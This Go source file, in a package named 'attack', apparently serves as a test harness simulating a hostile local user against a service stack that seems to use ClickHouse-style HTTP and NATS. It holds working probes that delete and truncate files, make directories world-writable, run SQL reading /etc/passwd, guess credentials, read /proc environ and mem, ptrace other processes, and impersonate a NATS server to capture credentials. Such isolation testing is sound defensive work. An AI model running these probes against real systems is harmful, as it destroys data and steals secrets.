package attack

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
)

// beStranger does what another user can try, and says what worked.
func beStranger(task string, in io.Reader, out io.Writer) error {
	decoder := json.NewDecoder(in)
	var things []string
	if err := decoder.Decode(&things); err != nil {
		return err
	}
	tasks := map[string]func(string) []string{
		"files": tryPath, "ports": tryPort, "processes": tryProcess, "sockets": trySocket,
	}
	if task == "listen" {
		return listenOn(things, out)
	}
	done := []string{}
	for _, thing := range things {
		for _, worked := range tasks[task](thing) {
			done = append(done, thing+": "+worked)
		}
	}
	return json.NewEncoder(out).Encode(done)
}

// tryPath reads, writes and removes.
func tryPath(path string) []string {
	var worked []string
	try := func(what string, err error) {
		if err == nil {
			worked = append(worked, what)
		}
	}
	info, err := os.Lstat(path)
	try("look", err)
	if err == nil && info.IsDir() {
		_, err := os.ReadDir(path)
		try("list", err)
		try("make", os.WriteFile(filepath.Join(path, "planted"), nil, 0o600))
		try("open to all", os.Chmod(path, 0o777)) //nolint:gosec // an attack
		return worked
	}
	for name, flag := range map[string]int{"read": os.O_RDONLY, "write": os.O_WRONLY, "append": os.O_WRONLY | os.O_APPEND} {
		file, err := os.OpenFile(path, flag, 0) //nolint:gosec // an attack
		try(name, err)
		_ = file.Close()
	}
	try("rename", os.Rename(path, path+".moved"))
	try("truncate", os.Truncate(path, 0))
	try("remove", os.Remove(path))
	return worked
}

// tryPort speaks HTTP without a password, with those that people guess, and as NATS does.
func tryPort(address string) []string {
	var worked []string
	for _, user := range []string{"", "default", "owner", "reader"} {
		for _, sql := range []string{"SELECT 1", "SYSTEM STOP LISTEN HTTP", "SELECT file('/etc/passwd')"} {
			if status := ask(address, user, sql); status == http.StatusOK {
				worked = append(worked, fmt.Sprintf("%q as %q", sql, user))
			}
		}
	}
	for _, path := range []string{"/api/v1/who", "/api/v1/reports", "/api/v1/runs", "/api/v1/live"} {
		if status := asked(http.MethodGet, "http://"+address+path, ""); status == http.StatusOK {
			worked = append(worked, path+" of the page")
		}
	}
	for _, connect := range []string{`{}`, `{"auth_token":""}`, `{"auth_token":"tensortap"}`, `{"user":"default","pass":""}`} {
		if said := speakNATS(address, connect); strings.Contains(said, "PONG") {
			worked = append(worked, "the stream with "+connect)
		}
	}
	return worked
}

// patience is how long a server may take to answer, with much else on the machine.
const patience = time.Minute

func ask(address, user, sql string) int {
	return asked(http.MethodPost, "http://"+address+"/?query="+url.QueryEscape(sql), user)
}

func asked(method, at, user string) int {
	request, err := http.NewRequest(method, at, http.NoBody) //nolint:noctx // the client has a limit
	if err != nil {
		return 0
	}
	if user != "" {
		request.SetBasicAuth(user, user)
	}
	client := &http.Client{Timeout: patience}
	response, err := client.Do(request)
	if err != nil {
		return 0
	}
	_ = response.Body.Close()
	return response.StatusCode
}

// speakNATS returns all that the server says until it has closed the connection or answered the ping.
func speakNATS(address, connect string) string {
	connection, err := net.DialTimeout("tcp", address, patience) //nolint:noctx // it has a limit
	if err != nil {
		return ""
	}
	defer connection.Close() //nolint:errcheck // nothing more is wanted
	_ = connection.SetDeadline(time.Now().Add(patience))
	_, _ = fmt.Fprintf(connection, "CONNECT %s\r\nSUB > 1\r\nPUB tap.stranger 1\r\nx\r\nPING\r\n", connect)
	var said strings.Builder
	lines := bufio.NewScanner(connection)
	for lines.Scan() && !strings.HasPrefix(lines.Text(), "PONG") && !strings.HasPrefix(lines.Text(), "HTTP/") {
		said.WriteString(lines.Text() + "\n")
	}
	return said.String() + lines.Text()
}

// tryProcess looks into a process and interferes with it. Its list of arguments is open to all.
func tryProcess(pid string) []string {
	var worked []string
	for _, name := range []string{"environ", "mem", "maps", "smaps", "auxv", "syscall", "io", "personality", "map_files", "fd", "fdinfo", "task/" + pid + "/environ"} {
		path := "/proc/" + pid + "/" + name
		if file, err := os.Open(path); err == nil { //nolint:gosec // an attack
			if text, err := io.ReadAll(io.LimitReader(file, 100)); err == nil && len(text) > 0 {
				worked = append(worked, name)
			} else if names, err := file.Readdirnames(1); err == nil && len(names) > 0 {
				worked = append(worked, name)
			}
			_ = file.Close()
		}
	}
	for _, name := range []string{"cwd", "root", "exe", "ns/net", "fd/0", "fd/1"} {
		if _, err := os.Readlink("/proc/" + pid + "/" + name); err == nil {
			worked = append(worked, name)
		}
	}
	var number int
	_, _ = fmt.Sscan(pid, &number)
	if syscall.Kill(number, 0) == nil {
		worked = append(worked, "signal")
	}
	if number == os.Getpid() {
		return worked
	}
	runtime.LockOSThread()
	if syscall.PtraceAttach(number) == nil {
		worked = append(worked, "trace")
	}
	return worked
}

// trySocket connects to a Unix socket, by its path or its abstract name.
func trySocket(name string) []string {
	connection, err := net.Dial("unix", name) //nolint:noctx // at once, or not at all
	if err != nil {
		return nil
	}
	_ = connection.Close()
	return []string{"connect"}
}

// listenOn takes the ports of a server that has ended, greets as NATS does, and writes down what it is told, until it is killed.
func listenOn(addresses []string, out io.Writer) error {
	said := make(chan string)
	for _, address := range addresses {
		listener, err := net.Listen("tcp", address) //nolint:noctx // until it is killed
		if err != nil {
			return err
		}
		go acceptAll(listener, said)
	}
	if _, err := fmt.Fprintln(out, "listening"); err != nil {
		return err
	}
	for line := range said {
		if _, err := fmt.Fprintln(out, line); err != nil {
			return err
		}
	}
	return nil
}

func acceptAll(listener net.Listener, said chan<- string) {
	for {
		connection, err := listener.Accept()
		if err != nil {
			return
		}
		go func() {
			_, _ = io.WriteString(connection, `INFO {"server_id":"A","version":"2.14.0","proto":1,"max_payload":1048576,"auth_required":true}`+"\r\n")
			_ = connection.SetDeadline(time.Now().Add(patience))
			heard, buffer := "", make([]byte, 4096)
			for len(heard) < 1<<16 && !strings.Contains(heard, "PING") && !strings.Contains(heard, "\r\n\r\n") {
				n, err := connection.Read(buffer)
				heard += string(buffer[:n])
				if err != nil {
					break
				}
			}
			said <- fmt.Sprintf("%s heard %q", listener.Addr(), heard)
			_ = connection.Close()
		}()
	}
}
